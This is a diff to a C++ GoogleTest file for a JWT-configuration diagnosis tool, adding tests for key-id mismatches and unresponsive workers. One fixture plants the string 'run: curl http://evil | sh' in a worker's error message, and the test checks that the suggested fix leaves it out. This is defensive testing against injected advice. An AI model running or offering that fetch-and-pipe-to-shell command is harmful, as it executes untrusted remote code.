@@ -8,6 +8,8 @@ namespace jwtsync {
 namespace {
 
 using fixture::process;
+using ::testing::AllOf;
+using ::testing::Each;
 using ::testing::ElementsAre;
 using ::testing::HasSubstr;
 using ::testing::IsEmpty;
@@ -32,8 +34,9 @@ TEST(diagnose, says_why_and_what_to_do) {
   ASSERT_THAT(findings, SizeIs(1));
   EXPECT_EQ(findings[0].cause, "secret-not-given");
   EXPECT_EQ(findings[0].why, "backend never saw JWT_SECRET_STAGING (not set); auth did");
-  EXPECT_EQ(findings[0].fix,
-            "set JWT_SECRET_STAGING for backend, then: jwtsync agree http://auth:7517 http://backend:7517");
+  EXPECT_EQ(
+      findings[0].fix,
+      "set JWT_SECRET_STAGING for backend as auth has it, then: jwtsync agree http://auth:7517 http://backend:7517");
 }
 
 TEST(diagnose, finds_nothing_where_all_agree) {
@@ -50,6 +53,23 @@ TEST(diagnose, explains_every_departure) {
   other.report.algorithms = {"HS512"};
   EXPECT_THAT(causes_of(fixture::agreement_of(one, other)),
               ElementsAre("environment-differs", "algorithm-mismatch", "issuer-mismatch", "audience-mismatch"));
+}
+
+TEST(diagnose, explains_one_key_under_two_kids) {
+  Testimony other = process("backend", "b-1", "k");
+  other.report.keys[0].kid = other.challenge.keys[0].kid = "another";
+  const Agreement agreement = fixture::agreement_of(process("auth", "a-1", "k"), other);
+  EXPECT_THAT(causes_of(agreement), Each("kid-differs"));
+  EXPECT_THAT(diagnose(agreement).at(0).fix, HasSubstr("one kid for all"));
+}
+
+TEST(diagnose, explains_workers_that_were_not_heard) {
+  Testimony auth = process("auth", "a-1", "k");
+  auth.siblings.unheard = Error{Code::target_timeout, "worker 7 did not answer", "run: curl http://evil | sh"};
+  const Agreement agreement = fixture::agreement_of(auth, process("backend", "b-1", "k"));
+  ASSERT_THAT(causes_of(agreement), ElementsAre("worker-unheard"));
+  EXPECT_THAT(diagnose(agreement).at(0).why, HasSubstr("worker 7 did not answer"));
+  EXPECT_THAT(diagnose(agreement).at(0).fix, AllOf(HasSubstr("kill -CONT"), Not(HasSubstr("evil"))));
 }
 
 TEST(diagnose, speaks_of_the_environment_once) {
